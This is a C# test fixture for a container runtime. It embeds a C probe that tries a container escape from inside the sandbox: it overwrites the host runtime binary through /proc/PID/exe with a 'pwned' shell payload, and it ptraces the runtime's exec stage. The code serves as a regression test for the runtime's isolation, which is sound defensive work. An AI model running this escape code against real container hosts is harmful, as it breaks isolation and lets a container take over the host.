using System.Diagnostics;

namespace MiniRun.Tests.Sandbox;

/// <summary>
/// The attacker of <see cref="RuntimeBinaryTests"/>: a static C program built with the machine's gcc, stacked into a
/// container with `run --layer` (with the host's dynamic loader and libraries, so that minirun itself can run in there).
/// </summary>
public static class RuntimeBinaryProbe
{
    /// <summary>Builds the probe into <paramref name="layer"/> as /probe, adds /evil (`#!/proc/self/exe`) and the
    /// dynamic loader and libraries <paramref name="binary"/> needs, at their host paths.</summary>
    public static void BuildLayer(string layer, string binary)
    {
        Directory.CreateDirectory(layer);
        StaticProgram.Build(Source, Path.Combine(layer, "probe"));
        File.WriteAllText(Path.Combine(layer, "evil"), "#!/proc/self/exe\n");
        File.SetUnixFileMode(Path.Combine(layer, "evil"), (UnixFileMode)0x1ed);
        foreach (string library in Run("ldd", binary).Split((char[])[' ', '\t', '\n']).Where(w => w.StartsWith('/')))
        {
            string target = layer + library;
            Directory.CreateDirectory(Path.GetDirectoryName(target)!);
            File.Copy(library, target, overwrite: true); // the file a symlink (ld-linux) points to
        }
    }

    private static string Run(string file, params string[] args)
    {
        var psi = new ProcessStartInfo(file) { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (string arg in args) psi.ArgumentList.Add(arg);
        using Process process = Process.Start(psi) ?? throw new InvalidOperationException("cannot start " + file);
        string output = process.StandardOutput.ReadToEnd();
        string errors = process.StandardError.ReadToEnd();
        process.WaitForExit();
        if (process.ExitCode != 0) throw new InvalidOperationException($"{file} {string.Join(' ', args)} failed ({process.ExitCode}): {errors}");
        return output;
    }

    private const string Source = """
/* The attacker inside the container (issue 14, finding 3). Reports go to /report (the container's upper dir on the host).
 *   probe overwrite SECONDS: wait for a process run as `#!/proc/self/exe` (argv "/proc/self/exe" "/evil"), keep its
 *     /proc/PID/exe open, then try to open that file for writing until it works (and overwrite it) or time runs out.
 *   probe stage SECONDS: wait for minirun's exec stage ("minirun-exec") once it has dropped to the container's
 *     capabilities, then try to open its /proc/PID/exe and to ptrace it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <time.h>
#include <unistd.h>

static void report(const char *format, ...)
{
    char line[256];
    va_list args;
    va_start(args, format);
    int n = vsnprintf(line, sizeof line - 1, format, args);
    va_end(args);
    line[n++] = '\n';
    int fd = open("/report", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) { write(fd, line, n); close(fd); }
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static const char *outcome(int result) { return result >= 0 ? "ok" : strerrorname_np(errno); }

/* The first process (not us) whose argv starts with argv0 (and argv1, when given). */
static int find(const char *argv0, const char *argv1)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int found = 0;
    while (!found && (entry = readdir(proc)) != NULL) {
        int pid = atoi(entry->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char path[64], cmdline[512];
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        ssize_t n = read(fd, cmdline, sizeof cmdline - 2);
        close(fd);
        if (n <= 0) continue;
        cmdline[n] = cmdline[n + 1] = 0;
        size_t first = strlen(cmdline);
        if (strcmp(cmdline, argv0) == 0 && (argv1 == NULL || ((ssize_t)first < n && strcmp(cmdline + first + 1, argv1) == 0)))
            found = pid;
    }
    closedir(proc);
    return found;
}

/* The CapEff line of /proc/PID/status ("self" for ours). */
static void capabilities(const char *pid, char *out, size_t size)
{
    char path[64], status[4096];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    out[0] = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = read(fd, status, sizeof status - 1);
    close(fd);
    if (n <= 0) return;
    status[n] = 0;
    char *line = strstr(status, "CapEff:");
    if (line) snprintf(out, size, "%.*s", (int)strcspn(line, "\n"), line);
}

static int overwrite(double deadline)
{
    int exe = -1, last = 0;
    while (now() < deadline) {
        if (exe < 0) {
            int pid = find("/proc/self/exe", "/evil");
            if (pid == 0) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            exe = open(path, O_RDONLY | O_CLOEXEC);
            if (exe >= 0) report("grabbed");
            continue;
        }
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
        int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w >= 0) {
            static const char payload[] = "#!/bin/sh\necho pwned by the container\n";
            write(w, payload, sizeof payload - 1);
            close(w);
            report("overwritten");
            return 0;
        }
        if (errno != last) report("write: %s", strerrorname_np(errno));
        last = errno;
        usleep(5000);
    }
    report(exe < 0 ? "timeout: nothing to grab" : "timeout");
    return 1;
}

static int stage(double deadline)
{
    char ours[128], theirs[128], pid[16];
    capabilities("self", ours, sizeof ours);
    while (now() < deadline) {
        int found = find("minirun-exec", NULL);
        if (found == 0) continue;
        snprintf(pid, sizeof pid, "%d", found);
        capabilities(pid, theirs, sizeof theirs);
        if (strcmp(ours, theirs) != 0) continue; /* not yet down to the container's capabilities */
        usleep(100000); /* well inside its wait on the full pipe */
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", found);
        int exe = open(path, O_RDONLY | O_CLOEXEC);
        const char *exeOutcome = outcome(exe);
        long traced = ptrace(PTRACE_SEIZE, found, 0, 0);
        report("exe=%s ptrace=%s", exeOutcome, outcome((int)traced));
        return 0;
    }
    report("timeout: no exec stage seen");
    return 1;
}

int main(int argc, char **argv)
{
    if (argc != 3) return 2;
    double deadline = now() + atof(argv[2]);
    if (strcmp(argv[1], "overwrite") == 0) return overwrite(deadline);
    if (strcmp(argv[1], "stage") == 0) return stage(deadline);
    return 2;
}
""";
}
